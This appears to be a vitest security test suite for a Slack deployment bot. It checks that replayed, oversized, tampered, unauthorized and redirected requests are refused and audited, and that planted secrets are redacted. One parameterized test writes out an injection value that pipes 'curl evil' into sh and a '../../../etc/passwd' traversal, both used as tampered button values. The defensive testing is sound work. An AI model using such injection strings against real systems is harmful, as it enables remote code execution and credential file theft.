import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Agent, request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  blockActionsBody,
  postSigned,
  signRequest,
  slashCommandBody,
  staleTimestamp,
} from '../../sim/slack/sign.ts';
import type { RunId } from '../../src/domain/ids.ts';
import { APPROVE_ACTION } from '../../src/slack/views/approval.ts';
import { PLANTED, SENTINEL } from '../helpers/evidence.ts';
import { Gate } from '../helpers/gate.ts';
import { pollUntil } from '../helpers/poll.ts';
import { REDIS_URL } from '../helpers/services.ts';
import {
  ALICE,
  APPROVERS,
  BOB,
  type BotWorld,
  CHANNEL,
  MALLORY,
  OTHER_CHANNEL,
  SECRET,
  STAGING,
  startBotWorld,
} from './bot-world.ts';

// Requests nobody honest sends: each is refused, changes nothing, and is audited when it names a run.
let world: BotWorld;
let finishedRun: RunId;
/** In front of a second web bot's Redis, for the replay guard's test. */
let gate: Gate | undefined;

/** Planted in the config: an ssh password in an argv (through `env:`), and the api's URL credentials. */
const SSH_PASSWORD = `ssh-${SENTINEL}-pw`;
const API_PASSWORD = `api-${SENTINEL}-pw`;

beforeAll(async () => {
  world = await startBotWorld({
    configEnv: { SSH_PASSWORD },
    environments: { ssh: sshEnvironment() },
  });
  world.aad.autoApprove();
  finishedRun = await world.start();
  await world.finished(finishedRun, 30_000);
});
afterAll(async () => {
  await world?.stop();
  await gate?.close();
});

/** An environment behind ssh (never run here): its config holds the planted secrets. */
function sshEnvironment() {
  const ssh = (...rest: string[]) => [
    'sshpass',
    '-p',
    'env:SSH_PASSWORD',
    'ssh',
    'hunter@hunter-ssh',
    ...rest,
  ];
  return {
    tier: 'staging',
    // Written into the file (not through env:): the URL's password is redacted all the same.
    api: { baseUrl: `https://svc:${API_PASSWORD}@hunter-ssh.example:8000` },
    database: { url: 'postgres://hunter@hunter-ssh.example:5432/hunter' },
    driver: {
      kind: 'commands',
      envFile: '/srv/hunter/.env',
      commands: {
        migrate: ssh('alembic', 'upgrade', 'head'),
        apply: ssh('systemctl', 'restart', 'hunter-api', 'hunter-worker'),
        celeryCall: ssh('celery', 'call', 'sync'),
        celeryResult: ssh('celery', 'result', '{taskId}'),
        logs: ssh('journalctl', '-u', 'hunter-worker', '--since', '{since}'),
        readEnv: ssh('printenv'),
        installTokenCache: ssh('install-cache'),
        tokenCacheDigest: ssh('sha256sum', '.token_cache'),
      },
    },
    policy: { requesters: [ALICE], approvers: [APPROVERS], channels: [CHANNEL] },
    watch: false,
  };
}

function click(user: string, actionId: string, value: string) {
  return postSigned(
    `${world.bot.url}/slack/events`,
    blockActionsBody({ userId: user, channelId: CHANNEL, messageTs: '1700000000.000100', actionId, value }),
    { secret: SECRET },
  );
}

function ephemeralTo(user: string, text: string) {
  return pollUntil(() => world.slack.api.ephemerals({ user }).find((e) => e.text?.includes(text)), {
    what: `an ephemeral to ${user} saying "${text}"`,
  });
}

/** Nothing moved: no new run, the last run as it was, nothing new in the channel. */
async function nothingChanged(before: { messages: number; current: RunId | undefined }) {
  expect(await world.runs.currentRunId(STAGING)).toBe(before.current);
  expect((await world.runs.get(finishedRun))?.state).toBe('passed');
  expect(world.slack.api.messages(CHANNEL)).toHaveLength(before.messages);
}

async function snapshot() {
  return {
    messages: world.slack.api.messages(CHANNEL).length,
    current: await world.runs.currentRunId(STAGING),
  };
}

describe('the secrets this test run planted', () => {
  it('are the ones the bot works with, so the final scan for them means something', () => {
    expect(SECRET).toContain(SENTINEL);
    expect(world.slack.api.botToken).toContain(SENTINEL);
    expect(world.config.environments.get(STAGING)?.database.url).toContain(SENTINEL);
    // Phase 0 reads the running api's environment, which holds the planted .env secrets.
    expect(world.sim.serviceEnv('api').HUNTER_SECRET_KEY).toContain(SENTINEL);
    // The run above signed in: the cache it installed holds tokens the fake Azure AD marked.
    expect(world.sim.tokenCacheFile()?.content).toContain(PLANTED.aadTokenMark);
  });
});

describe('hostile or broken requests to the bot', () => {
  it('refuses a replayed slash command (timestamp older than 5 minutes) and starts nothing', async () => {
    const before = await snapshot();
    const res = await postSigned(
      `${world.bot.url}/slack/events`,
      slashCommandBody({ text: 'staging', userId: ALICE, channelId: CHANNEL }),
      { secret: SECRET, ts: staleTimestamp() },
    );
    expect(res.status).toBe(401);
    await nothingChanged(before);
  });

  it('refuses an oversized body before reading it all, and keeps answering', async () => {
    const before = await snapshot();
    const body = slashCommandBody({
      text: `staging ${'x'.repeat(5 * 1024 * 1024)}`,
      userId: ALICE,
      channelId: CHANNEL,
    });
    // Its own connection: the server may close it mid-upload, as it should.
    const own = new Agent();
    const status = await request(`${world.bot.url}/slack/events`, {
      method: 'POST',
      headers: signRequest(SECRET, body.rawBody, Math.floor(Date.now() / 1000)),
      body: body.rawBody,
      dispatcher: own,
    }).then(
      (res) => res.statusCode,
      () => 'connection closed',
    );
    await own.close().catch(() => undefined);
    expect([413, 'connection closed']).toContain(status);
    await nothingChanged(before);
    const help = await world.slash('help');
    expect(help.status).toBe(200);
    expect(help.text).toContain('/pc-verify');
  });

  it('acknowledges a button it does not know, refuses it and records it against the run it names', async () => {
    const before = await snapshot();
    const auditBefore = (await world.audit.entries(STAGING)).length;
    const res = await click(MALLORY, 'turn_flag_on_now', finishedRun);
    // Acknowledged, not left to Bolt's "unhandled request" timer, which answers 404 (Slack shows an error).
    expect(res.status).toBe(200);
    await ephemeralTo(MALLORY, 'does not know this button');
    // Mallory is on no list: the refusal is kept apart from the trail, counted per minute.
    expect(await world.audit.entries(STAGING)).toHaveLength(auditBefore);
    expect(await world.audit.refusals.entries(STAGING)).toContainEqual(
      expect.objectContaining({
        actor: MALLORY,
        action: 'button.unknown',
        runId: finishedRun,
        detail: 'unknown action id "turn_flag_on_now"',
      }),
    );
    await nothingChanged(before);
  });

  it.each([
    ['shell metacharacters', `${'r'}x; curl evil | sh`],
    ['a path', '../../../etc/passwd'],
    ['an empty value', ''],
  ])('refuses an Approve whose value was tampered with (%s)', async (_what, value) => {
    const before = await snapshot();
    const auditBefore = (await world.audit.entries(STAGING)).length;
    expect((await click(BOB, APPROVE_ACTION, value)).status).toBe(200);
    await ephemeralTo(BOB, 'does not name a run (tampered or outdated)');
    // It names no run, so no environment's audit stream is the place for it; the log has it.
    expect(await world.audit.entries(STAGING)).toHaveLength(auditBefore);
    await pollUntil(() => world.logs.find((l) => l.includes('approval click for no known run')), {
      what: 'the refused click in the log',
    });
    await nothingChanged(before);
  });

  it('refuses an Approve whose value is too long to be a button of ours', async () => {
    const before = await snapshot();
    expect((await click(BOB, APPROVE_ACTION, 'r'.repeat(10_000))).status).toBe(200);
    await ephemeralTo(BOB, 'could not read this button');
    await nothingChanged(before);
  });

  it('refuses and audits an Approve that names a run which is not waiting for approval', async () => {
    const before = await snapshot();
    const auditBefore = (await world.audit.entries(STAGING)).length;
    await click(BOB, APPROVE_ACTION, finishedRun);
    await ephemeralTo(BOB, 'no longer waiting for approval (it is passed)');
    const added = (await world.audit.entries(STAGING)).slice(auditBefore);
    expect(added).toEqual([
      expect.objectContaining({
        actor: BOB,
        action: 'approval.approve',
        runId: finishedRun,
        outcome: 'refused',
      }),
    ]);
    expect((await world.audit.verify(STAGING)).ok).toBe(true);
    await nothingChanged(before);
  });
});

describe("read commands and the config's secrets", () => {
  it('refuses plan, status and history to someone on no list', async () => {
    for (const command of ['plan ssh', 'plan staging', 'status staging', 'history staging']) {
      const answer = await world.slash(command, MALLORY);
      expect(answer.text).toContain('You are not allowed to look at');
      expect(answer.text).not.toContain(SENTINEL);
    }
    expect((await world.slash('status', MALLORY)).text).toContain('No environment you may look at from here');
  });

  it('refuses them to a requester asking from a channel not on policy.channels', async () => {
    for (const command of ['plan staging', 'status staging', 'history staging']) {
      const answer = await world.slash(command, ALICE, OTHER_CHANNEL);
      expect(answer.text).toContain(`*staging* can only be operated from <#${CHANNEL}>`);
      expect(answer.text).not.toContain(finishedRun);
      expect(answer.text).not.toContain('alembic');
    }
    expect((await world.slash('status', ALICE, OTHER_CHANNEL)).text).toContain(
      'No environment you may look at from here',
    );
  });

  it('shows a requester the plan with every env: value and URL password redacted', async () => {
    const plan = await world.slash('plan ssh', ALICE);
    expect(plan.text).toContain('sshpass -p [redacted] ssh hunter@hunter-ssh');
    expect(plan.text).toContain('GET https://svc:[redacted]@hunter-ssh.example:8000/healthz');
    expect(plan.text).not.toContain(SSH_PASSWORD);
    expect(plan.text).not.toContain(API_PASSWORD);
  });
});

describe('the smaller doors', () => {
  it('serves /healthz and /metrics on their own listener on 127.0.0.1, not on the port Slack reaches', async () => {
    expect((await fetch(`${world.bot.url}/healthz`)).status).toBe(404);
    expect((await fetch(`${world.bot.url}/metrics`)).status).toBe(404);
    expect(new URL(world.bot.opsUrl).hostname).toBe('127.0.0.1');
    expect(world.bot.opsUrl).not.toBe(world.bot.url);
    const health = await fetch(`${world.bot.opsUrl}/healthz`);
    expect(health.status).toBe(200);
    expect((await fetch(`${world.bot.opsUrl}/metrics`)).status).toBe(200);
  });

  it("never sends an answer to a response_url off Slack's host: the person gets an ephemeral instead", async () => {
    const received: string[] = [];
    const elsewhere = createServer((req, res) => {
      received.push(req.url ?? '');
      res.end();
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    const port = (elsewhere.address() as AddressInfo).port;
    try {
      await postSigned(
        `${world.bot.url}/slack/events`,
        slashCommandBody({
          text: 'history staging',
          userId: ALICE,
          channelId: CHANNEL,
          responseUrl: `http://127.0.0.1:${port}/collect`,
        }),
        { secret: SECRET },
      );
      await ephemeralTo(ALICE, 'runs of *staging*');
      expect(received).toEqual([]);
    } finally {
      await new Promise<void>((resolve) => elsewhere.close(() => resolve()));
    }
  });

  it('refuses a slash command from another workspace or app, as it refuses their clicks', async () => {
    for (const origin of [{ teamId: 'T0OTHERTEAM' }, { apiAppId: 'A0OTHERAPP1' }]) {
      const before = await snapshot();
      const refusedBefore = world.logs.filter((l) => l.includes('from another workspace or app')).length;
      const res = await postSigned(
        `${world.bot.url}/slack/events`,
        slashCommandBody({ text: 'staging', userId: ALICE, channelId: CHANNEL, ...origin }),
        { secret: SECRET },
      );
      expect(res.status).toBe(200);
      await pollUntil(
        () =>
          world.logs.filter((l) => l.includes('from another workspace or app')).length > refusedBefore
            ? true
            : undefined,
        { what: 'the foreign command refused' },
      );
      await nothingChanged(before);
    }
  });

  it('refuses a command that changes something when Redis cannot say it is not a replay', async () => {
    gate = await Gate.open(Number(new URL(REDIS_URL).port || 6379), new URL(REDIS_URL).hostname);
    const web = await world.startBot({ role: 'web', redisUrl: `redis://127.0.0.1:${gate.port}` });
    const before = await snapshot();
    gate.hold();
    try {
      const answer = await world.slash('staging', ALICE, CHANNEL, web);
      expect(answer.text).toContain('could not check that this request is not a replay');
    } finally {
      gate.release();
    }
    await nothingChanged(before);
  });
});
